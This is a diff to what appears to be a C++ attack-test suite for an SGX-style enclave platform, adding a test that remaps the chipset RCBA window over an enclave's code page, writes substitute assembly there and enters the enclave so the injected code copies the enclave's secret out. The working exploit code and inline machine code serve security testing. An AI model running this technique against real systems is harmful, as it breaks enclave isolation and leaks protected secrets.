@@ -9,6 +9,13 @@
 //                     over the enclave, destroys it, moves RCBA back and
 //                     reads the page: EDESTROY's zeroing went to the cover
 //                     and the secret is still in RAM;
+//   rcba-code-substitution  with an initialised enclave alive (its
+//                     measurement taken over its own code), moves RCBA over
+//                     the enclave's code page, writes other code into the
+//                     cover and enters the enclave: the CPU fetches the
+//                     enclave's code through the cover, so the attacker's
+//                     code runs in enclave mode and copies the enclave's
+//                     secret out;
 //   pam-after-death   the same with PAM (00:00.0 0x92, 0xCC000-0xCFFFF): the
 //                     enclave lives in RAM there, PAM sends the range to
 //                     PCI (ROM) while EDESTROY zeroes it;
@@ -34,6 +41,33 @@
 #include <optional>
 
 #include "platform_common.hpp"
+#include "runnable_enclave.hpp"
+
+// The attacker's code for the enclave's code page (never run in the host).
+// EENTER leaves RBX = the ELRANGE base and RDI = the untrusted page: it
+// copies the 64 bytes at the start of the enclave's data page to RDI + 64,
+// sets the page's `done` to 2 (the enclave's own code sets 1) and EEXITs.
+// NOLINTNEXTLINE(hicpp-no-assembler): the substitute is machine code
+asm(".pushsection .rodata\n"
+    ".globl hix_substitute_code\n"
+    "hix_substitute_code:\n\t"
+    "xor %eax, %eax\n"
+    "1:\n\t"
+    "mov 0x2000(%rbx,%rax,8), %rdx\n\t"
+    "mov %rdx, 0x40(%rdi,%rax,8)\n\t"
+    "inc %eax\n\t"
+    "cmp $8, %eax\n\t"
+    "jne 1b\n\t"
+    "movq $2, 16(%rdi)\n\t"
+    "mov %rcx, %rbx\n\t"
+    "mov $4, %eax\n\t"
+    ".byte 0x0f, 0x01, 0xd7\n" /* ENCLU[EEXIT] */
+    ".globl hix_substitute_code_end\n"
+    "hix_substitute_code_end:\n"
+    ".popsection");
+
+extern "C" const std::uint8_t hix_substitute_code[];
+extern "C" const std::uint8_t hix_substitute_code_end[];
 
 namespace {
 
@@ -178,6 +212,72 @@ void rcba_after_death(AttackDevice& dev) {
          "after=%s",
          old, target, moved, destroyed, static_cast<unsigned long long>(enclave.page),
          describe(after, secret));
+}
+
+// What the enclave's `done` word says ran: its own code (1) or the
+// attacker's (2).
+constexpr std::uint64_t kRanOwn = 1;
+constexpr std::uint64_t kRanSubstitute = 2;
+constexpr std::size_t kLeakOffset = 64;  // where the substitute copies the secret
+
+void rcba_code_substitution(AttackDevice& dev) {
+  Config lpc(kLpc);
+  // The code page is the second page of a 16 KiB block (RCBA's granule);
+  // the other pages live elsewhere, so the TCS and the data stay in RAM.
+  const std::uint64_t cover = dev.block(2);
+  const std::uint64_t rest = dev.block(2);
+  const Secret secret = random_secret();
+  const auto old = lpc.read<std::uint32_t>(kRcba);
+  RunnableEnclave enclave(dev,
+                          {.secs = rest,
+                           .tcs = rest + HIX_PAGE_SIZE,
+                           .code = cover + HIX_PAGE_SIZE,
+                           .data = rest + 2 * HIX_PAGE_SIZE},
+                          secret);
+  if (!enclave.ok()) {
+    report({.property = "chipset", .path = "rcba-code-substitution", .outcome = "refused"},
+           "why=%s status=%u", enclave.failed, enclave.status);
+    return;
+  }
+  map_enclave(dev, enclave.pa);
+  void* mem = mmap(nullptr, HIX_PAGE_SIZE, PROT_READ | PROT_WRITE,
+                   MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
+  if (mem == MAP_FAILED) fail("mmap");
+  auto* shared = static_cast<volatile spinner_shared*>(mem);
+  shared->stop = 1;  // the enclave's own code leaves after one round
+
+  const auto target = static_cast<std::uint32_t>(cover) | kRcbaEnable;
+  lpc.write<std::uint32_t>(kRcba, target);
+  const auto moved = lpc.read<std::uint32_t>(kRcba);
+  const bool covered = moved == target;
+  // Only through a cover: without one the address is the enclave's page
+  // itself, whose protection is the MMIO and EPC attack suites' subject.
+  int written = -1;
+  if (covered) {
+    Page code{};
+    const auto len = static_cast<std::size_t>(hix_substitute_code_end - hix_substitute_code);
+    std::memcpy(code.data(), hix_substitute_code, len);
+    written = dev.write_phys(enclave.pa.code, code);
+  }
+  const std::uint64_t rax = eenter(kEnclaveModeSpin, shared);
+  lpc.write<std::uint32_t>(kRcba, old);
+  const auto restored = lpc.read<std::uint32_t>(kRcba);
+  const std::uint64_t done = shared->done;
+  const auto* page = static_cast<const std::uint8_t*>(mem);
+  const std::span<const std::uint8_t> copied(page + kLeakOffset, secret.size());
+  const char* ran = done == kRanOwn ? "own" : done == kRanSubstitute ? "substitute" : "none";
+  const char* left = rax == HIX_EEXIT                 ? "eexit"
+                     : rax == HIX_ERR_ENCLAVE_ABORTED ? "abort"
+                                                      : "other";
+  const std::uint32_t destroyed = enclave.destroy();
+  report({.property = "chipset",
+          .path = "rcba-code-substitution",
+          .outcome = outcome(done == kRanSubstitute && contains(copied, secret))},
+         "rcba_before=0x%08x rcba_target=0x%08x rcba_readback=0x%08x rcba_restored=0x%08x "
+         "code=0x%llx written=%d eenter_rax=%llu left=%s ran=%s counter=%llu copied=%s destroy=%u",
+         old, target, moved, restored, static_cast<unsigned long long>(enclave.pa.code), written,
+         static_cast<unsigned long long>(rax), left, ran,
+         static_cast<unsigned long long>(shared->counter), describe(copied, secret), destroyed);
 }
 
 void pam_after_death(AttackDevice& dev) {
@@ -350,6 +450,7 @@ void pciexbar_after_death(AttackDevice& dev) {
 int main() {
   AttackDevice dev;
   rcba_after_death(dev);
+  rcba_code_substitution(dev);
   pam_after_death(dev);
   smram_alias(dev);
   pciexbar_move(dev);
